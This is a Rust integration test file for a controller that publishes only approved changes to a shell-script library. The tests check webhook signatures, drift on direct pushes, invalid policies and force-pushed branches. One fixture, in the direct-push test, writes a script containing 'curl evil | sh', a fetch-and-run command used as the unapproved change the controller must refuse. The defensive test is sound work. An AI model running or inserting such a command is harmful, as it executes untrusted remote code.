//! The controller publishes approved changes and nothing else (issue #4): an approved merge
//! becomes a new snapshot within two seconds of the push, by file-system notification or by
//! webhook; a forged webhook changes nothing; a direct push drifts; an invalid approved
//! policy keeps the last good snapshot served until it is fixed.

#[path = "controller_support.rs"]
mod support;

use std::time::Duration;

use support::*;

const WITHIN: Duration = Duration::from_secs(2);

#[test]
fn an_approved_merge_is_published_by_fs_notification() {
    let repo = TestRepo::new();
    let setup = Setup::new(&repo, "[watch]\npoll_interval = \"1h\"\nfs_notify = true\n");
    let ctl = setup.start();
    ctl.wait_serial(1, Duration::from_secs(10));

    repo.approved_change(
        "wider-ps",
        &[("library/ps/ps.sh", b"#!/bin/bash\nps -efww\n")],
        "wider ps",
    );
    let took = ctl.wait_serial(2, WITHIN);
    eprintln!("merge to snapshot by fs notification: {took:?}");

    let catalog: serde_json::Value = ctl.get("/v1/catalog.json").json().expect("catalog");
    let ps = catalog["entries"]
        .as_array()
        .expect("entries")
        .iter()
        .find(|e| e["script"] == "ps")
        .expect("ps entry");
    assert_eq!(ps["version"], 2);
    assert_eq!(
        catalog["source_commit"],
        repo.head(),
        "source commit is the merge"
    );
    assert!(ctl.stop().success(), "SIGTERM exits 0");
}

#[test]
fn a_signed_webhook_triggers_and_a_forged_one_does_nothing() {
    let repo = TestRepo::new();
    let setup = Setup::new(
        &repo,
        "[watch]\npoll_interval = \"1h\"\nfs_notify = false\n\n[webhooks]\ngithub_secret_file = \"gh.secret\"\ngitea_secret_env = \"QUIVER_TEST_UNSET_GITEA\"\n",
    );
    std::fs::write(setup.path().join("gh.secret"), "hook-secret\n").expect("secret");
    // gitea_secret_env names an unset variable: the controller must refuse to start.
    let out = quiver(&["reconcile", "--config", &setup.config_str()]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("webhooks.gitea_secret_env"),
        "{out:?}"
    );
    setup.write_config(
        &repo,
        "[watch]\npoll_interval = \"1h\"\nfs_notify = false\n\n[webhooks]\ngithub_secret_file = \"gh.secret\"\n",
    );
    let ctl = setup.start();
    ctl.wait_serial(1, Duration::from_secs(10));
    let token = setup.member_token("carol");
    let reconciles = |ctl: &Running| ctl.status(&token)["reconciles"].as_array().map(Vec::len);
    let before = reconciles(&ctl);

    repo.approved_change(
        "wider-ps",
        &[("library/ps/ps.sh", b"#!/bin/bash\nps -efww\n")],
        "wider ps",
    );
    let body = br#"{"ref":"refs/heads/main"}"#.to_vec();
    let hook = |sig: &str, forge: &str, header: &str| {
        client()
            .post(format!("{}/v1/webhooks/{forge}", ctl.url))
            .header(header, sig)
            .header("content-type", "application/json")
            .body(body.clone())
            .send()
            .expect("webhook")
            .status()
            .as_u16()
    };
    // Wrong signature, missing signature, unconfigured forge: 401 and nothing happens.
    let bad = format!("sha256={}", "0".repeat(64));
    assert_eq!(hook(&bad, "github", "X-Hub-Signature-256"), 401);
    assert_eq!(hook("", "github", "X-Other"), 401);
    assert_eq!(hook("hook-secret", "gitlab", "X-Gitlab-Token"), 401);
    std::thread::sleep(Duration::from_millis(600)); // longer than the debounce
    assert_eq!(ctl.serial(), Some(1), "a forged webhook must not publish");
    assert_eq!(
        reconciles(&ctl),
        before,
        "a forged webhook must not even reconcile"
    );

    use hmac::Mac;
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(b"hook-secret").expect("hmac");
    mac.update(&body);
    let good = format!("sha256={}", hex::encode(mac.finalize().into_bytes()));
    let start = std::time::Instant::now();
    assert_eq!(hook(&good, "github", "X-Hub-Signature-256"), 202);
    wait_until("serial 2", WITHIN, || {
        (ctl.serial() == Some(2)).then_some(())
    });
    eprintln!("webhook to snapshot: {:?}", start.elapsed());

    // A burst of webhooks (20 at once) is coalesced into a few reconciles.
    let n0 = ctl.status(&token)["reconciles"]
        .as_array()
        .map(Vec::len)
        .unwrap_or(0);
    std::thread::scope(|s| {
        for _ in 0..20 {
            s.spawn(|| assert_eq!(hook(&good, "github", "X-Hub-Signature-256"), 202));
        }
    });
    std::thread::sleep(Duration::from_millis(1500));
    let n1 = ctl.status(&token)["reconciles"]
        .as_array()
        .map(Vec::len)
        .unwrap_or(0);
    assert!(n1 - n0 <= 5, "20 webhooks caused {} reconciles", n1 - n0);
}

#[test]
fn a_direct_push_drifts_and_is_not_published() {
    let repo = TestRepo::new();
    let setup = Setup::new(&repo, "[watch]\npoll_interval = \"1h\"\n");
    let ctl = setup.start();
    ctl.wait_serial(1, Duration::from_secs(10));
    let token = setup.member_token("carol");
    let before: serde_json::Value = ctl.get("/v1/catalog.json").json().expect("catalog");

    let pushed = repo.direct_push(
        &[("library/ps/ps.sh", b"#!/bin/bash\ncurl evil | sh\n")],
        "quick fix",
    );
    let status = wait_until("ps drifted", Duration::from_secs(5), || {
        let s = ctl.status(&token);
        (s["head"] == pushed.as_str()).then_some(s)
    });
    let ps = status["scripts"]
        .as_array()
        .expect("scripts")
        .iter()
        .find(|s| s["name"] == "ps")
        .expect("ps")
        .clone();
    assert_eq!(ps["state"], "drifted", "{ps}");
    assert_eq!(ps["version"], 1, "the approved version stays deployed");
    assert!(ps["reason"].as_str().is_some_and(|r| !r.is_empty()), "{ps}");

    let after: serde_json::Value = ctl.get("/v1/catalog.json").json().expect("catalog");
    assert_eq!(before, after, "no new snapshot for a drift");
    let drifted = audit_records(&setup.audit_log(), "change.drifted");
    assert_eq!(drifted.len(), 1, "{drifted:?}");
    assert_eq!(drifted[0]["details"]["commit"], pushed.as_str());
    assert_eq!(
        drifted[0]["actors"],
        serde_json::json!(["alice@example.org"]),
        "the record names who pushed"
    );
    let metrics = ctl.get("/metrics").text().expect("metrics");
    assert!(
        metrics.contains("quiver_scripts{state=\"drifted\"} 1"),
        "{metrics}"
    );
}

#[test]
fn an_invalid_approved_policy_keeps_the_last_good_snapshot_until_fixed() {
    let repo = TestRepo::new();
    let setup = Setup::new(&repo, "[watch]\npoll_interval = \"1h\"\n");
    let ctl = setup.start();
    ctl.wait_serial(1, Duration::from_secs(10));
    assert_eq!(ctl.get("/readyz").status().as_u16(), 200);
    let good_catalog = ctl.get("/v1/catalog.json").bytes().expect("catalog");

    // An approved merge that breaks policies/members.toml on line 3.
    let broken = POLICY.replacen("id = \"alice\"", "id = \"alice\"\nemails = [", 1);
    let merge = repo.approved_change(
        "break-policy",
        &[("policies/members.toml", broken.as_bytes())],
        "edit members",
    );
    let body = wait_until("readyz 503", Duration::from_secs(5), || {
        let r = ctl.get("/readyz");
        (r.status().as_u16() == 503).then(|| r.json::<serde_json::Value>().expect("json"))
    });
    // Degraded, as docs/api.md shows it: not ready, the last good serial, and a reason
    // naming the invalid policy's commit.
    assert_eq!(body["ready"], false, "{body}");
    assert_eq!(body["state"], "degraded", "{body}");
    assert_eq!(body["degraded"]["reason"], "policy", "{body}");
    assert_eq!(body["serial"], 1, "the last good snapshot: {body}");
    let reason = body["reason"].as_str().expect("reason").to_string();
    assert!(
        reason.starts_with("policy at ") && reason.contains(" is invalid: "),
        "says the policy is invalid: {reason}"
    );
    assert!(reason.contains(&merge[..10]), "names the commit: {reason}");
    assert!(
        reason.contains("policies/members.toml:"),
        "names the file: {reason}"
    );
    assert!(
        reason
            .split("policies/members.toml:")
            .nth(1)
            .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit())),
        "names the line: {reason}"
    );
    // The last good snapshot is still served.
    assert_eq!(
        ctl.get("/v1/catalog.json").bytes().expect("catalog"),
        good_catalog
    );
    assert_eq!(ctl.serial(), Some(1));
    assert_eq!(audit_records(&setup.audit_log(), "policy.invalid").len(), 1);
    // `GET /v1/status` carries the same state under the word the docs use.
    let carol = setup.member_token("carol");
    let status = ctl.status(&carol);
    assert_eq!(status["ready"], false, "{status:#}");
    assert_eq!(status["degraded"]["reason"], "policy", "{status:#}");
    assert_eq!(status["degraded"]["message"], reason.as_str(), "{status:#}");

    // Fixing it with another approved commit recovers.
    repo.approved_change(
        "fix-policy",
        &[("policies/members.toml", POLICY.as_bytes())],
        "fix members",
    );
    let body = wait_until("ready again", Duration::from_secs(5), || {
        let r = ctl.get("/readyz");
        (r.status().as_u16() == 200).then(|| r.json::<serde_json::Value>().expect("json"))
    });
    assert_eq!(body["ready"], true, "{body}");
    assert!(
        ctl.serial().is_some_and(|s| s > 1),
        "a new snapshot after the fix"
    );
    assert_eq!(
        ctl.status(&carol)["degraded"],
        serde_json::Value::Null,
        "no longer degraded"
    );
}

#[test]
fn a_rewritten_branch_holds_until_acknowledged() {
    let repo = TestRepo::new();
    let setup = Setup::new(&repo, "[watch]\npoll_interval = \"1h\"\n");
    let ctl = setup.start();
    ctl.wait_serial(1, Duration::from_secs(10));
    repo.approved_change(
        "v2",
        &[("library/ps/ps.sh", b"#!/bin/bash\nps aux\n")],
        "ps aux",
    );
    ctl.wait_serial(2, Duration::from_secs(5));
    let served = ctl.get("/v1/catalog.json").bytes().expect("catalog");

    // Force-push: the merge disappears, another change takes its place.
    repo.git(&["reset", "-q", "--hard", "HEAD~1"]);
    repo.approved_change(
        "other",
        &[("library/ps/ps.sh", b"#!/bin/bash\nps -A\n")],
        "ps -A",
    );
    let reason = wait_until("readyz 503", Duration::from_secs(5), || {
        let r = ctl.get("/readyz");
        (r.status().as_u16() == 503).then(|| r.json::<serde_json::Value>().expect("json"))
    });
    assert!(
        reason["reason"]
            .as_str()
            .is_some_and(|r| r.contains("rewritten")),
        "{reason}"
    );
    assert_eq!(
        ctl.get("/v1/catalog.json").bytes().expect("catalog"),
        served,
        "last good snapshot"
    );
    assert_eq!(
        audit_records(&setup.audit_log(), "rewrite.detected").len(),
        1
    );

    // Acknowledging needs the approve permission; bob has it.
    let carol = setup.member_token("carol");
    let out = quiver(&[
        "rewrite",
        "ack",
        "--config",
        &setup.config_str(),
        "--server",
        &ctl.url,
        "--token",
        &carol,
    ]);
    assert!(!out.status.success(), "carol may not acknowledge");
    let bob = setup.member_token("bob");
    let out = quiver(&[
        "rewrite",
        "ack",
        "--config",
        &setup.config_str(),
        "--server",
        &ctl.url,
        "--token",
        &bob,
        "--json",
    ]);
    assert!(out.status.success(), "{out:?}");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(report["outcome"], "published", "{report}");
    assert_eq!(
        report["serial"], 3,
        "the serial keeps growing across the rewrite"
    );
    assert_eq!(ctl.get("/readyz").status().as_u16(), 200);
    let acked = audit_records(&setup.audit_log(), "rewrite.acknowledged");
    assert_eq!(acked.len(), 1);
    assert_eq!(acked[0]["actors"][0], "bob");
}

#[test]
fn a_remote_repository_is_mirrored_and_polled() {
    let repo = TestRepo::new();
    let remote = tempfile::tempdir().expect("tmp");
    let bare = remote.path().join("library.git");
    repo.git(&["clone", "-q", "--bare", ".", bare.to_str().expect("utf8")]);
    let setup = Setup::new(&repo, "[watch]\npoll_interval = \"1s\"\n");
    // Point the config at the URL instead of the path.
    let text = std::fs::read_to_string(setup.config())
        .expect("config")
        .replace(
            &format!("path = \"{}\"", repo.path().display()),
            &format!("url = \"file://{}\"", bare.display()),
        );
    std::fs::write(setup.config(), text).expect("config");
    let ctl = setup.start();
    ctl.wait_serial(1, Duration::from_secs(10));
    assert!(setup.path().join("state/mirror.git").is_dir());

    repo.approved_change(
        "v2",
        &[("library/ps/ps.sh", b"#!/bin/bash\nps aux\n")],
        "ps aux",
    );
    repo.git(&["push", "-q", bare.to_str().expect("utf8"), "main"]);
    ctl.wait_serial(2, Duration::from_secs(5));
}

#[test]
fn a_missing_local_repository_is_refused_at_start() {
    let dir = tempfile::tempdir().expect("tmp");
    let keys = dir.path().join("keys");
    let out = quiver(&["keygen", "--out", keys.to_str().expect("utf8")]);
    assert!(out.status.success(), "{out:?}");
    let config = dir.path().join("quiver.toml");
    std::fs::write(
        &config,
        "[repository]\npath = \"my-librray\"\n\n[trust]\ncommit = \"0123456789abcdef\"\n\n[signing]\nsecret_key = \"keys/quiver.key\"\n\n[server]\nlisten = \"127.0.0.1:0\"\n",
    )
    .expect("write");
    let out = std::process::Command::new(quiver_tests::bin("quiver"))
        .args(["controller", "--config"])
        .arg(&config)
        .stdin(std::process::Stdio::null())
        .output()
        .expect("run");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("repository.path")
            && err.contains("my-librray")
            && err.contains("does not exist"),
        "{err}"
    );
    assert!(
        !dir.path().join("state").exists(),
        "nothing was created: {err}"
    );
}
